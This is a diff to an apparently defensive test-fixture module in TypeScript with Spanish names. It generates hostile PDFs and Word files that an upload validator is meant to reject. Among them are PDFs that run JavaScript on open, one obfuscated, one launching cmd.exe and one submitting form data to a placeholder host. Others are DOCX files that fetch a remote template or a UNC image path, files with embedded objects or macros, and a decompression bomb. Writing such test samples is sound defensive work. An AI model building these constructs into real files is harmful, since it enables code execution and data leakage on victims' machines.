@@ -1,5 +1,5 @@
 import { randomBytes } from 'node:crypto';
-import { crc32, deflateRawSync } from 'node:zlib';
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 
 // Files made on the spot, good ones and traps, so that none has to be kept in the repository.
@@ -24,6 +24,20 @@ export async function foto(ancho = 800, alto = 600, orientacion = 1): Promise<Bu
     .toBuffer();
 }
 
+/** A photo that weighs what a camera's does: its grain does not compress. Turned to the right. */
+export async function fotoDeCamara(ancho: number, alto: number): Promise<Buffer> {
+  const grano = {
+    width: ancho,
+    height: alto,
+    channels: 3,
+    noise: { type: 'gaussian', mean: 128, sigma: 40 },
+  } as const;
+  return sharp({ create: { ...grano, background: '#000' } })
+    .withMetadata({ orientation: 6 })
+    .jpeg({ quality: 95 })
+    .toBuffer();
+}
+
 export async function png(ancho = 300, alto = 200): Promise<Buffer> {
   return sharp({
     create: { width: ancho, height: alto, channels: 4, background: { r: 9, g: 9, b: 9, alpha: 0.5 } },
@@ -43,22 +57,198 @@ export async function gifAnimado(): Promise<Buffer> {
     .toBuffer();
 }
 
-export function pdf(texto = 'Hola'): Buffer {
+/**
+ * A PDF of one page.
+ * @param otros more objects, from 6 on, each without its number: `<</S/GoTo>>`
+ * @param raiz what the catalogue says besides
+ */
+export function pdf(texto = 'Hola', otros: readonly (string | Buffer)[] = [], raiz = ''): Buffer {
   const objetos = [
-    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n',
-    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
-    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n',
-    `4 0 obj<</Length ${texto.length + 34}>>stream\nBT /F1 24 Tf 20 100 Td (${texto}) Tj ET  \nendstream endobj\n`,
-    '5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n',
+    `<</Type/Catalog/Pages 2 0 R${raiz}>>`,
+    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
+    `<</Length ${texto.length + 34}>>stream\nBT /F1 24 Tf 20 100 Td (${texto}) Tj ET  \nendstream `,
+    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
+    ...otros,
   ];
-  let cuerpo = '%PDF-1.4\n';
-  const posiciones = objetos.map((objeto) => {
-    const posicion = cuerpo.length;
-    cuerpo += objeto;
+  const pedazos = [Buffer.from('%PDF-1.4\n')];
+  let largo = 9;
+  const posiciones = objetos.map((objeto, i) => {
+    const posicion = largo;
+    const entero = [Buffer.from(`${i + 1} 0 obj`), Buffer.from(objeto), Buffer.from('endobj\n')];
+    pedazos.push(...entero);
+    largo += entero.reduce((suma, pedazo) => suma + pedazo.length, 0);
     return `${String(posicion).padStart(10, '0')} 00000 n \n`;
   });
-  const indice = `xref\n0 6\n0000000000 65535 f \n${posiciones.join('')}trailer<</Size 6/Root 1 0 R>>\n`;
-  return Buffer.from(`${cuerpo}${indice}startxref\n${cuerpo.length}\n%%EOF\n`, 'latin1');
+  const indice = `xref\n0 ${objetos.length + 1}\n0000000000 65535 f \n${posiciones.join('')}trailer<</Size ${objetos.length + 1}/Root 1 0 R>>\n`;
+  return Buffer.concat([...pedazos, Buffer.from(`${indice}startxref\n${largo}\n%%EOF\n`, 'latin1')]);
+}
+
+/** A stream of a PDF, packed as writers do: of objects, unless it is said otherwise. */
+export function flujoDePdf(contenido: string | Buffer, dice = '/Type/ObjStm/N 1/First 4'): Buffer {
+  const comprimido = deflateSync(contenido);
+  return Buffer.concat([
+    Buffer.from(`<<${dice}/Filter/FlateDecode/Length ${comprimido.length}>>stream\r\n`),
+    comprimido,
+    Buffer.from('\r\nendstream '),
+  ]);
+}
+
+const PROGRAMA = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
+
+/** PDFs that do something when they are opened, or carry something. */
+function pdfsHostiles(): Hostil[] {
+  const sinProposito = { code: 'ARCHIVO_NO_PERMITIDO' } as const;
+  const activo = { ...sinProposito, detectado: 'pdf-activo' };
+  const adjuntos = { ...sinProposito, detectado: 'pdf-adjuntos' };
+  const roto = { code: 'ARCHIVO_DANADO', detectado: 'pdf' };
+  const flujo = flujoDePdf(`6 0 ${PROGRAMA}`);
+  return [
+    { nombre: 'con-programa.pdf', bytes: pdf('Hola', [PROGRAMA], '/OpenAction 6 0 R'), ...activo },
+    {
+      nombre: 'con-programa-disfrazado.pdf',
+      bytes: pdf('Hola', [], '/OpenAction<</S/J#61vaScript/JS(1)>>'),
+      ...activo,
+    },
+    { nombre: 'con-programa-en-objetos.pdf', bytes: pdf('Hola', [flujo], '/OpenAction 7 0 R'), ...activo },
+    {
+      nombre: 'con-programa-tras-otros-objetos.pdf',
+      bytes: pdf('Hola', [flujoDePdf(`${'6 0 <</A/B>> '.repeat(50_000)}${PROGRAMA}`)]),
+      ...activo,
+    },
+    {
+      nombre: 'con-programa-en-objetos-sin-decirlo.pdf',
+      bytes: pdf('Hola', [flujoDePdf(PROGRAMA, '/Type/XObject/Subtype/Image')]),
+      ...activo,
+    },
+    {
+      nombre: 'con-objetos-que-no-se-abren.pdf',
+      bytes: pdf('Hola', [
+        Buffer.concat([
+          flujo.subarray(0, flujo.indexOf('stream') + 10),
+          randomBytes(40),
+          Buffer.from('endstream '),
+        ]),
+      ]),
+      ...roto,
+    },
+    {
+      nombre: 'con-objetos-de-otra-forma.pdf',
+      bytes: pdf('Hola', [`<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>stream\n00>endstream `]),
+      ...roto,
+    },
+    {
+      nombre: 'que-lanza.pdf',
+      bytes: pdf('Hola', [], '/OpenAction<</S/Launch/F(cmd.exe)>>'),
+      ...activo,
+    },
+    {
+      nombre: 'que-manda-datos.pdf',
+      bytes: pdf('Hola', [], '/AA<</WC<</S/SubmitForm/F(http://malo)>>>>'),
+      ...activo,
+    },
+    { nombre: 'con-video.pdf', bytes: pdf('Hola', ['<</Subtype/RichMedia>>']), ...activo },
+    {
+      nombre: 'con-adjunto.pdf',
+      bytes: pdf('Hola', [flujoDePdf('MZ', '/Type/EmbeddedFile')], '/Names<</EmbeddedFiles 6 0 R>>'),
+      ...adjuntos,
+    },
+    {
+      nombre: 'con-adjunto-en-objetos.pdf',
+      bytes: pdf('Hola', [flujoDePdf('6 0 <</Names<</EmbeddedFiles 8 0 R>>>>')]),
+      ...adjuntos,
+    },
+    {
+      nombre: 'cifrado.pdf',
+      bytes: pdf('Hola', ['<</Encrypt 5 0 R>>']),
+      ...sinProposito,
+      detectado: 'pdf-cifrado',
+    },
+    {
+      nombre: 'bomba.pdf',
+      bytes: pdf('Hola', Array<Buffer>(9).fill(flujoDePdf(Buffer.alloc(60 * 1024 * 1024), '/X 1'))),
+      code: 'ARCHIVO_DEMASIADO_GRANDE',
+      pesado: true,
+    },
+  ];
+}
+
+/** Word documents that fetch something, or carry a program or another file. */
+function documentosHostiles(): Hostil[] {
+  const externo = { code: 'ARCHIVO_NO_PERMITIDO', detectado: 'docx-externo' };
+  const incrustado = { code: 'ARCHIVO_NO_PERMITIDO', detectado: 'docx-incrustado' };
+  return [
+    {
+      nombre: 'con-plantilla-ajena.docx',
+      bytes: docx([
+        relaciones('settings.xml', 'attachedTemplate', 'https://malo.example/x.dotm', 'External'),
+      ]),
+      ...externo,
+    },
+    {
+      nombre: 'con-imagen-ajena.docx',
+      bytes: docx([relaciones('document.xml', 'image', '\\\\malo\\x.png', 'External')]),
+      ...externo,
+    },
+    {
+      nombre: 'con-objeto.docx',
+      bytes: docx([{ nombre: 'word/embeddings/oleObject1.bin', datos: doc('Workbook') }]),
+      ...incrustado,
+    },
+    {
+      nombre: 'con-objeto-en-otro-lado.docx',
+      bytes: docx([relaciones('document.xml', 'oleObject', 'media/image1.emf')]),
+      ...incrustado,
+    },
+    {
+      nombre: 'con-control.docx',
+      bytes: docx([{ nombre: 'word/activeX/activeX1.xml', datos: Buffer.from('<x/>') }]),
+      ...incrustado,
+    },
+    {
+      nombre: 'con-macros-relacionadas.docx',
+      bytes: docx([relaciones('document.xml', 'vbaProject', 'otro.bin')]),
+      code: 'ARCHIVO_NO_PERMITIDO',
+      detectado: 'docm',
+    },
+    {
+      nombre: 'con-entidades.docx',
+      bytes: zip([
+        {
+          nombre: '[Content_Types].xml',
+          datos: Buffer.from(`<!DOCTYPE x [<!ENTITY a "${'b'.repeat(1000)}">]>${TIPOS(WORD).slice(38)}`),
+        },
+        { nombre: 'word/document.xml', datos: Buffer.from(DOCUMENTO) },
+      ]),
+      code: 'ARCHIVO_DANADO',
+      detectado: 'docx',
+    },
+    { nombre: 'con-objetos.doc', bytes: doc('WordDocument', ['ObjectPool', 'x']), ...incrustado },
+  ];
+}
+
+function relaciones(de: string, clase: string, destino: string, modo = 'Internal'): Parte {
+  const tipo = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${clase}`;
+  return {
+    nombre: `word/_rels/${de}.rels`,
+    datos: Buffer.from(
+      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+        `<Relationship Id="r1" Type="${tipo}" Target="${destino}" TargetMode="${modo}"/></Relationships>`,
+    ),
+  };
+}
+
+/** A document with a link that the reader may follow: as most have. */
+export function docxConEnlace(): Buffer {
+  return docx([relaciones('document.xml', 'hyperlink', 'https://ejemplo.com', 'External')]);
+}
+
+/** What was slow to the square: so many beginnings of a declaration, and none of them ends. */
+export function docxRepetido(veces: number): Buffer {
+  return zip([
+    { nombre: '[Content_Types].xml', datos: Buffer.from('<Override '.repeat(veces)) },
+    { nombre: 'word/document.xml', datos: Buffer.from(DOCUMENTO) },
+  ]);
 }
 
 const TIPOS = (tipo: string, parte = '/word/document.xml') =>
@@ -108,12 +298,14 @@ export function doc(flujo = 'WordDocument', otros: string[] = [], marca = 0xa5ec
   const nombres = [flujo, ...otros].slice(0, 3);
   const directorio = Buffer.concat([
     entradaDeDirectorio('Root Entry', 5, { hijo: 1 }),
-    ...nombres.map((nombre, i) =>
-      entradaDeDirectorio(nombre, i === 0 ? 2 : 1, {
-        derecha: i + 1 < nombres.length ? i + 2 : undefined,
+    ...nombres.map((nombre, i) => {
+      // What comes after a pool of objects is in it; anything else stands beside the one before.
+      const siguiente = i + 1 < nombres.length ? i + 2 : undefined;
+      return entradaDeDirectorio(nombre, i === 0 ? 2 : 1, {
+        ...(nombre === 'ObjectPool' ? { hijo: siguiente } : { derecha: siguiente }),
         sector: i === 0 ? 2 : 0,
-      }),
-    ),
+      });
+    }),
   ]);
   const contenido = Buffer.alloc(4096);
   contenido.writeUInt16LE(marca, 0);
@@ -128,7 +320,7 @@ export function doc(flujo = 'WordDocument', otros: string[] = [], marca = 0xa5ec
 function entradaDeDirectorio(
   nombre: string,
   tipo: number,
-  { hijo, derecha, sector = 0 }: { hijo?: number; derecha?: number | undefined; sector?: number },
+  { hijo, derecha, sector = 0 }: { hijo?: number | undefined; derecha?: number | undefined; sector?: number },
 ): Buffer {
   const entrada = Buffer.alloc(128);
   entrada.write(nombre, 'utf16le');
@@ -225,7 +417,14 @@ export async function pngGigante(): Promise<Buffer> {
 
 const SCRIPT = '<script>alert(document.domain)</script>';
 
-export type Hostil = { nombre: string; bytes: Buffer; code: string; detectado?: string | null };
+export type Hostil = {
+  nombre: string;
+  bytes: Buffer;
+  code: string;
+  detectado?: string | null;
+  /** Takes seconds to be found out: worth sending once, not a thousand times. */
+  pesado?: true;
+};
 
 /** What must be refused as evidence, whatever it is called, and with which code. */
 export async function corpusHostil(): Promise<Hostil[]> {
@@ -316,6 +515,15 @@ export async function corpusHostil(): Promise<Hostil[]> {
       bytes: Buffer.from('%PDF-9.9\nstartxref\n0\n%%EOF'),
       code: 'ARCHIVO_DANADO',
       detectado: 'pdf',
+    },
+
+    ...pdfsHostiles(),
+    ...documentosHostiles(),
+    {
+      nombre: 'override-repetido.docx',
+      bytes: docxRepetido(2000),
+      code: 'ARCHIVO_DANADO',
+      detectado: 'docx',
     },
 
     { nombre: 'planilla.doc', bytes: doc('Workbook'), code: 'ARCHIVO_NO_PERMITIDO', detectado: 'cfb' },
